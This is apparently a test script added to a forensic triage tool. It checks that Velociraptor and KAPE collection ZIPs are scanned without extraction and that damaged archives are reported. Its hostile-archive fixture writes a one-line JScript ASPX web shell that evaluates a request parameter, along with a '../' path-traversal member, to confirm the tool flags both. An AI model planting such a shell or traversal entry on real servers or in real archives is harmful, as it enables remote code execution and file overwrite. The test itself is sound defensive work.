@@ -1,0 +1,81 @@
+#!/bin/sh
+# exray hunt on a collection archive as the collector wrote it: a Velociraptor offline
+# collector ZIP (uploads/auto/C%3A/...) and a KAPE ZIP (C/...) are read with libarchive,
+# never extracted to disk, and give the same findings (JSON Lines, apart from the root
+# field) as the extracted tree. Damaged and hostile archives are reported, not trusted.
+. "$(dirname "$0")/lib.sh"
+GEN="$ROOT/tests/fixtures/triage/gen.py"
+zipdir() { # DIR ZIP: members named relative to DIR, with their modification times
+    python3 - "$1" "$2" <<'PY'
+import os, sys, zipfile
+src, dst = sys.argv[1:3]
+# a ZIP without the extended-timestamp field keeps DOS times (2 s steps): give the tree
+# even seconds so that the tree and the archive carry the same times
+for r, ds, fs in os.walk(src):
+    for f in fs:
+        p = os.path.join(r, f); t = int(os.stat(p).st_mtime) // 2 * 2
+        os.utime(p, (t, t))
+with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
+    for r, ds, fs in os.walk(src):
+        for d in ds:
+            z.write(os.path.join(r, d), os.path.relpath(os.path.join(r, d), src) + "/")
+        for f in fs:
+            z.write(os.path.join(r, f), os.path.relpath(os.path.join(r, f), src))
+PY
+}
+same() { # A.jsonl B.jsonl: equal apart from "root"
+    python3 - "$1" "$2" <<'PY'
+import json, sys
+def load(p):
+    out = []
+    for l in open(p):
+        f = json.loads(l); f.pop("root"); out.append(json.dumps(f, sort_keys=True))
+    return sorted(out)
+a, b = load(sys.argv[1]), load(sys.argv[2])
+if a != b:
+    for x in sorted(set(a) ^ set(b))[:10]:
+        print("  differs:", x)
+    sys.exit(1)
+print("  %d findings, identical" % len(a))
+PY
+}
+export TZ=UTC
+for style in velociraptor kape; do
+    python3 "$GEN" "$WORK/$style" --style "$style" >/dev/null
+    zipdir "$WORK/$style" "$WORK/$style.zip"
+    set +e
+    "$EXRAY" hunt -q -o "$WORK/$style.dir.jsonl" "$WORK/$style" 2>/dev/null; rc1=$?
+    "$EXRAY" hunt -q -o "$WORK/$style.zip.jsonl" "$WORK/$style.zip" 2>"$WORK/$style.err"; rc2=$?
+    set -e
+    [ $rc1 -eq 1 ] && [ $rc2 -eq 1 ] || fail "$style: exit $rc1 (tree) / $rc2 (zip): $(head -3 "$WORK/$style.err")"
+    same "$WORK/$style.dir.jsonl" "$WORK/$style.zip.jsonl" || fail "$style: the ZIP's findings differ from the tree's"
+    grep -q "\"root\":\"$WORK/$style.zip\"" "$WORK/$style.zip.jsonl" || fail "$style: root field is not the ZIP"
+    ok "$style ZIP read in place: same findings as the extracted tree, exit 1"
+done
+# nothing was extracted next to the archive or in the temporary folder
+[ -z "$(find "$WORK" -mindepth 1 -newer "$WORK/kape.zip" -type d)" ] || fail "folders appeared while the ZIP was read"
+ok "nothing extracted to disk"
+
+# damaged archives: a truncated ZIP and a member that does not decompress are reported
+python3 "$GEN" "$WORK/dmg" --style kape >/dev/null
+zipdir "$WORK/dmg" "$WORK/dmg.zip"
+head -c $(( $(stat -c %s "$WORK/dmg.zip") * 2 / 3 )) "$WORK/dmg.zip" > "$WORK/trunc.zip"
+set +e; "$EXRAY" hunt -q -o "$WORK/trunc.jsonl" "$WORK/trunc.zip" 2>"$WORK/trunc.err"; rc=$?; set -e
+[ $rc -eq 1 ] || [ $rc -eq 2 ] || fail "truncated ZIP: exit $rc"
+if [ $rc -eq 1 ]; then
+    grep -q '"check":"hunt.not-examined"' "$WORK/trunc.jsonl" || fail "truncated ZIP: damage not reported"
+fi
+ok "a truncated ZIP is reported (exit $rc), never 'clean'"
+python3 - "$WORK/evil.zip" <<'PY'
+import sys, zipfile
+with zipfile.ZipFile(sys.argv[1], "w") as z:
+    z.writestr("C/inetpub/wwwroot/aspnet_client/ok.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>')
+    z.writestr("C/Windows/placeholder.txt", "x")
+    z.writestr("../../escape.aspx", "x")
+PY
+set +e; "$EXRAY" hunt -q -o "$WORK/evil.jsonl" "$WORK/evil.zip" 2>/dev/null; rc=$?; set -e
+[ $rc -eq 1 ] || fail "hostile ZIP: exit $rc"
+grep -q '"check":"webshell.yara".*"path":"C/inetpub/wwwroot/aspnet_client/ok.aspx"' "$WORK/evil.jsonl" || fail "hostile ZIP: the shell next to the bad member was missed"
+grep -q '"check":"hunt.not-examined".*"path":"../../escape.aspx"' "$WORK/evil.jsonl" || fail "hostile ZIP: '..' member not reported"
+[ ! -e "$WORK/../escape.aspx" ] && [ ! -e "$WORK/../../escape.aspx" ] || fail "a '..' member was written"
+ok "a '..' member is reported as not examined and written nowhere; the shell beside it is found"
